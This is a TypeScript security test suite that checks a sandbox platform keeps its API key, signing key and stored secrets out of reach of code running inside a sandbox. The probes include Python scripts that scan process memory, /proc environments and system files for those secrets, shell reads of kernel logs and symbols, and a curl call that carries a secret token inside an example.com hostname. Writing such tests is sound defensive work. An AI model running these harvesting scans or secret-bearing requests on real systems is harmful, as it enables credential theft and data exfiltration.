import { readFileSync } from "node:fs";
import { join } from "node:path";
import { until } from "#test/e2e/support/until.ts";
import { attemptsOf, judged } from "../attempt.ts";
import type { HostileWorld } from "../world.ts";

/** Texts that only the platform may have: the first 16 characters of each as hexadecimal, so that the search does not find itself. */
function platformSecrets({ platform, secretValue }: HostileWorld): readonly string[] {
  const key = readFileSync(join(platform.home, "signing-key.pem"), "utf8").split("\n")[1] ?? "";
  return [platform.apiKey.slice(23), key, secretValue].map((text) => Buffer.from(text.slice(0, 16)).toString("hex"));
}

export const attempts = attemptsOf("secrets", [
  {
    tried: "the platform's API key, signing key and stored secrets in memory and environments",
    must: "in none that it can read",
    async run(world) {
      const seen = await world.python(
        world.attacker,
        `
import glob, re
wanted = [bytes.fromhex(h) for h in ${JSON.stringify(platformSecrets(world))}]
found, read = [], 0
for pid in [p.split('/')[2] for p in glob.glob('/proc/[0-9]*')]:
    for name in ('environ', 'cmdline'):
        try: data = open(f'/proc/{pid}/{name}', 'rb').read()
        except OSError: continue
        read += 1
        if any(w in data for w in wanted): found.append((pid, name))
    try:
        maps = open(f'/proc/{pid}/maps').read(); mem = open(f'/proc/{pid}/mem', 'rb', 0)
    except OSError: continue
    if int(pid) == __import__('os').getpid(): continue
    for m in re.finditer(r'^([0-9a-f]+)-([0-9a-f]+) rw', maps, re.M):
        a, b = int(m[1], 16), int(m[2], 16)
        try: mem.seek(a); data = mem.read(min(b - a, 1 << 26)); read += 1
        except (OSError, ValueError, OverflowError): continue
        if any(w in data for w in wanted): found.append((pid, m[0]))
print('read', read, 'found', found)
`,
        60,
      );
      return judged(seen.includes("found []") && /read [1-9]/.test(seen), seen);
    },
  },
  {
    tried: "the same on every file that it can read",
    must: "in none",
    async run(world) {
      const seen = await world.python(
        world.attacker,
        `
import os
wanted = [bytes.fromhex(h) for h in ${JSON.stringify(platformSecrets(world))}]
found, read = [], 0
for top in ('/workspace', '/tmp', '/run', '/opt', '/etc', '/var', '/home', '/root', '/dev/shm'):
    for d, _, names in os.walk(top):
        for n in names:
            p = os.path.join(d, n)
            try:
                if os.path.isfile(p) and os.path.getsize(p) < 1 << 25:
                    data = open(p, 'rb').read(); read += 1
                    if any(w in data for w in wanted): found.append(p)
            except OSError: pass
print('read', read, 'found', found)
`,
        60,
      );
      return judged(seen.includes("found []") && /read [1-9]\d/.test(seen), seen);
    },
  },
  {
    tried: "variables of the platform in its own environment",
    must: "what a program is given names no key, home or address of the platform",
    async run({ attacker, shell, platform }) {
      const seen = await shell(attacker, "env; cat /proc/self/mountinfo");
      const leaks = [platform.home, platform.apiKey, String(platform.port)].filter((text) => seen.includes(text));
      return judged(
        leaks.length === 0 && !/BULKHEAD_(HOME|KEY|AGENT)/.test(seen),
        leaks.join(", ") || `${seen.length} characters of environment and mounts, none of home, key or port`,
      );
    },
  },
  {
    tried: "kernel logs, core dumps and crash files of others",
    must: "not readable",
    async run({ attacker, shell }) {
      const seen = await shell(
        attacker,
        "dmesg 2>&1 | head -2; ls /var/crash /var/lib/systemd/coredump /cores 2>&1; cat /dev/kmsg 2>&1 | head -1; awk '$1 != \"0000000000000000\"' /proc/kallsyms 2>&1 | head -2",
      );
      return judged(!/\[\s*\d+\.\d+\]/.test(seen) && !/^[0-9a-f]{16} /m.test(seen), seen);
    },
  },
  {
    tried: "a secret delivered to the environment in what the platform writes",
    must: "hidden in its log, its errors and its record",
    async run({ create, shell, cli, platform }) {
      const value = `delivered-${crypto.randomUUID()}`;
      await cli(["secrets", "set", "delivered"], value);
      const sandbox = await create({ secrets: { MY_TOKEN: "delivered" } });
      await shell(sandbox, "curl -s -m 5 http://$MY_TOKEN.example.com/");
      const error = await sandbox.files.read(`/etc/${value}`).catch((thrown: unknown) => String(thrown));
      const journal = readFileSync(join(platform.home, "logs", "egress.jsonl"), "utf8");
      const record = await until("row of the record", async () => {
        const listed = await cli(["egress", "list", "--sandbox", sandbox.sandboxId]);
        return listed.includes("example.com") && listed;
      });
      await sandbox.kill();
      const leaks = [platform.output(), error, record, journal].filter((text) => text.includes(value)).length;
      return judged(
        leaks === 0 && journal.includes("[secret MY_TOKEN]"),
        `the record says ${/\[secret MY_TOKEN\]\S*/.exec(record)?.[0] ?? "nothing"}`,
      );
    },
  },
]);
